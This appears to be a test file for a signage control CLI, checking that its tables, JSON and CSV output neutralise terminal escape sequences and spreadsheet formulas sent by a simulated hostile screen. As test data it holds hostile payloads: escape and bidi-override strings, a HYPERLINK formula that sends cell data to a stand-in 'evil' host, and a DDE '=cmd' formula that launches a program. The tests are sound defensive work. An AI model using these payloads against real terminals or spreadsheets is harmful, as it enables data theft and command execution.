import t from 'tap';
import { csvLine, jsonForTerminal, renderTable, termSafe } from '../scripts/signagectl/table.js';
import { client, ctl } from './helpers/ctl.js';
import { startBroker } from './helpers/mosquitto.js';

// Issue 10 item 7: signagectl prints what screens send, and one screen may be an attacker's.
// Its output must not drive the operator's terminal (escape sequences) nor run as a spreadsheet
// formula (CSV). Checked on the functions and end to end, with a hostile device on a real broker.

/** Any raw terminal control, 8-bit CSI, or bidi override: what must never reach the terminal. */
const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;
const EVIL = 'ok\u001b]0;pwned\u0007\u001b[2J\u009b31m\u202egnp.exe\r\n';


t.test('termSafe shows controls as text; JSON stays valid and equal; tables and CSV are clean', async (t) => {
  t.notMatch(termSafe(EVIL), RAW_CONTROL, 'no raw control survives');
  t.equal(termSafe('Hà Nội · ihanoi-30s'), 'Hà Nội · ihanoi-30s', 'printable text, Vietnamese included, is untouched');
  t.match(termSafe('a\u001bb'), 'a\\u{1b}b', 'an escape is shown, not dropped');
  const v = { error: EVIL, nested: [EVIL] };
  const json = jsonForTerminal(v);
  t.notMatch(json.replace(/\n/g, ''), RAW_CONTROL, 'no raw control in the JSON (its own line breaks aside)');
  t.same(JSON.parse(json), v, 'the same value when parsed');
  t.match(json, /\n {2}"error"/, 'still pretty-printed');
  for (const l of renderTable(['A', 'B'], [[EVIL, 'x']])) t.notMatch(l, RAW_CONTROL);
  t.equal(csvLine(['=HYPERLINK("http://evil/?"&A1,"x")', '+1', '-2+3', '@SUM(A1)', '\t=1', 'plain', -1, 3, true]),
    `"'=HYPERLINK(""http://evil/?""&A1,""x"")",'+1,'-2+3,'@SUM(A1),'\\u{9}=1,plain,-1,3,true`);
});

t.test('a hostile screen cannot reach the terminal through cmd, report or watch', async (t) => {
  const b = await startBroker(t);
  const dev = await client(t, b.url);
  await dev.publishAsync('signage/device/evil-1/status', JSON.stringify({ online: true, session: 1 }), { qos: 1, retain: true });
  dev.on('message', (_topic, payload, packet) => {
    const req = JSON.parse(payload.toString()) as { id: string; name: string; args?: { date?: string } };
    const body = req.name === 'report'
      ? { id: req.id, ok: true, result: { date: req.args?.date, compliance: [{ campaignId: `=cmd|' /C calc'!A0${EVIL}`, day: req.args?.date, played: 1, target: 10, onTrack: false }] } }
      : { id: req.id, ok: false, error: EVIL };
    const corr = packet.properties?.correlationData;
    void dev.publishAsync(packet.properties?.responseTopic ?? 'signage/device/evil-1/cmd/result', JSON.stringify(body), { qos: 1, ...(corr ? { properties: { correlationData: corr } } : {}) });
  });
  await dev.subscribeAsync('signage/device/evil-1/cmd', { qos: 1 });

  const cmd = await ctl(['cmd', '--url', b.url, '--device', 'evil-1', 'ping']);
  t.equal(cmd.code, 1, 'the failed command still exits 1');
  for (const l of [...cmd.out, ...cmd.err]) t.notMatch(l.replace(/\n/g, ''), RAW_CONTROL, `cmd output clean: ${JSON.stringify(l).slice(0, 60)}`);
  t.match(cmd.err.join('\n'), /ping failed: ok\\u\{1b\}\]0;pwned/, 'the error is shown, its escapes visible');

  const csv = await ctl(['report', '--url', b.url, '--date', '2024-08-15', '--csv']);
  t.equal(csv.code, 0, csv.err.join('\n'));
  const row = csv.out.find((l) => l.startsWith('evil-1,'));
  t.ok(row, 'the hostile row is there');
  t.match(row, /^evil-1,'=cmd\|/, 'the formula is neutralised with an apostrophe');
  for (const l of csv.out) t.notMatch(l, RAW_CONTROL, 'CSV clean');
  const table = await ctl(['report', '--url', b.url, '--date', '2024-08-15']);
  for (const l of table.out) t.notMatch(l, RAW_CONTROL, 'report table clean');

  const beat = JSON.stringify({ ts: new Date().toISOString(), deviceId: 'evil-1', backlog: 0, player: { state: 'playing', campaignId: EVIL }, compliance: [] });
  const timer = setInterval(() => void dev.publishAsync('signage/device/evil-1/heartbeat', beat, { qos: 0 }), 100);
  t.teardown(() => clearInterval(timer));
  const watch = await ctl(['watch', '--url', b.url, '--once', '--for', '700ms']);
  t.equal(watch.code, 0, watch.err.join('\n'));
  t.match(watch.out.join('\n'), /evil-1\s+online/);
  t.match(watch.out.join('\n'), /ok\\u\{1b\}/, 'the campaign shows, escapes visible');
  for (const l of watch.out) t.notMatch(l, RAW_CONTROL, 'watch clean');
});
